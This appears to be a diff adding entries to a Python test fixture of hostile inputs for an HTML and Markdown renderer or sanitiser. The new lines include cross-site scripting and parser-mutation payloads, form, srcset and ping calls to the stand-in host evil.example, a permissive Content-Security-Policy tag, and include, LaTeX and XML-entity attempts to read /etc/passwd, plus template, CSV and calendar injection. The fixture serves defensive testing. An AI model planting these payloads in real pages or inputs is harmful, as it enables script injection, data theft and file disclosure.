@@ -39,6 +39,16 @@ ELEMENTS = (
     "</script><script>pwned()</script>",
     "</style><script>pwned()</script>",
     "</textarea><script>pwned()</script>",
+    "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>",
+    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;parent.pwned()&lt;/script&gt;'></iframe></foreignObject></svg>",
+    "<math><annotation-xml encoding='text/html'><script>pwned()</script></annotation-xml></math>",
+    "<form id=x></form><button form=x formaction=https://evil.example/>go</button>",
+    "<template shadowrootmode=open><style>:host{display:none}</style></template>",
+    "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
+    '<meta http-equiv=Content-Security-Policy content="default-src *">',
+    "<a ping=https://evil.example/ href=x>y</a>",
+    "<title>swallowed",
+    "</td></tr></tbody></table>out of the table",
 )
 # What a parser reads differently the second time: mutation attacks, and states that swallow the rest of a page.
 PARSER_STATES = (
@@ -61,6 +71,12 @@ PARSER_STATES = (
     "\ufeff<script>pwned()</script>",
     "＜script＞pwned()＜/script＞",
     "<\u0338script>pwned()</script>",
+    "<!-- a -- b --!><img src=x onerror=pwned()>",
+    "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
+    "<%img src=x onerror=pwned()%>",
+    "<img\xa0src=x\xa0onerror=pwned()>",
+    "<scr<script>ipt>pwned()</scr</script>ipt>",
+    "<a href='x'><a href='y'>nested</a>",
 )
 ENTITIES = (
     "&lt;script&gt;pwned()&lt;/script&gt;",
@@ -70,6 +86,10 @@ ENTITIES = (
     "&copy &nbsp; &zwj; &NotAnEntity; &; &#; &#x; &#0; &#1114112;",
     "&lt &gt &quot; &apos;",
     "AT&T R&D Q&A <3 a<b>c x > y < z",
+    "&LT;script&GT;pwned()&LT;/script&GT;",
+    "&#60script&#62pwned()",
+    "&Tab;&NewLine;&lpar;&rpar;&colon;&lsqb;x&rsqb;",
+    "&#128;&#xD800;&#8238;rtl&ZeroWidthSpace;&shy;",
 )
 ATTRIBUTES = (
     '" onmouseover="pwned()',
@@ -90,6 +110,9 @@ ATTRIBUTE_LISTS = (
     "# x {#injected}",
     "title {#claim-x}",
     "{@onclick=pwned()}",
+    "## x {#__search}",
+    "| a {: hidden} | b |\n|---|---|\n| c | d |",
+    "{: .md-typeset hidden }\nx",
 )
 EMPHASIS = (
     "*emphasis* **strong** ***both***",
@@ -119,6 +142,10 @@ LINKS = (
     "]( [ ]() []() ][ ]: [] [ ] (x)[y](z)",
     "\\[3\\]](#source-x)",
     "*[HTML]: a tooltip",
+    "[![x](https://evil.example/a.png)](javascript:pwned())",
+    "[x](java&#x0A;script:pwned())",
+    "[x](../../../index.md#claim-1){target=_blank}",
+    "<mailto:a@b.example?subject=x> <tel:+1>",
 )
 BLOCKS = (
     "# heading",
@@ -154,6 +181,11 @@ BLOCKS = (
     "[TOC]",
     '<div markdown="1">*x*</div>',
     "<div markdown>\n\n# x\n\n</div>",
+    "[^1]: \n    indented",
+    "/// html | iframe[srcdoc=x]\n///",
+    "``` { .python #id onclick=pwned() }\nx\n```",
+    "a  \nb\\\nc",
+    ".. include:: /etc/passwd",
 )
 INCLUSIONS = (
     '--8<-- "/etc/passwd"',
@@ -177,6 +209,10 @@ TEMPLATES = (
     "${7*7} #{7*7} <%= 7*7 %> @(7*7) {{constructor.constructor('pwned()')()}}",
     "{{< shortcode >}} {{% shortcode %}} {@html pwned()} {pwned()}",
     "%s %d %(x)s {0} {x.__class__} \\1 \\g<0> $1",
+    "{% include '/etc/passwd' %}{{ x | safe }}",
+    "{#- c -#}{%- raw -%}",
+    "{%",
+    "}}",
 )
 FRONT_MATTER = (
     "---\ntitle: injected\ntemplate: x.html\n---",
@@ -186,6 +222,7 @@ FRONT_MATTER = (
     "!!python/name:os.system",
     "x: y #z & *alias &anchor | > % @ `",
     "Title: a: b: c",
+    "---\ntemplate: evil.html\nhide:\n- navigation\n---\n\n# x",
 )
 URL_SCHEMES = (
     "javascript:pwned()",
@@ -218,6 +255,9 @@ INVISIBLE = (
     "\u0301starts with a combining mark",
     "z̸̢͎̈́a̵̡͓̓l̶̰̽g̴̣̈́o̷",
     "\ufff9annotated\ufffatext\ufffb",
+    "\u206a\u206b\u206c\u206d\u206e\u206fx",
+    "á́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́b",
+    "\U000e0001\U000e0041\U000e007fx",
 )
 SCRIPTS = (
     "مرحبا (العالم) 123 abc",
@@ -252,6 +292,13 @@ OTHER_READERS = (
     "x" * 300,
     "word " * 80,
     "?" * 40 + "!" * 40 + "-" * 40 + "=" * 40,
+    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
+    "}}\\input{/etc/passwd}{",
+    'x","y\n=1',
+    "＝1+1",
+    '#read("/etc/passwd") $ sum $ <label> @ref',
+    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+    "\\",
 )
 PAYLOADS = (
     *ELEMENTS, *PARSER_STATES, *ENTITIES, *ATTRIBUTES, *ATTRIBUTE_LISTS, *EMPHASIS, *LINKS, *BLOCKS, *INCLUSIONS,
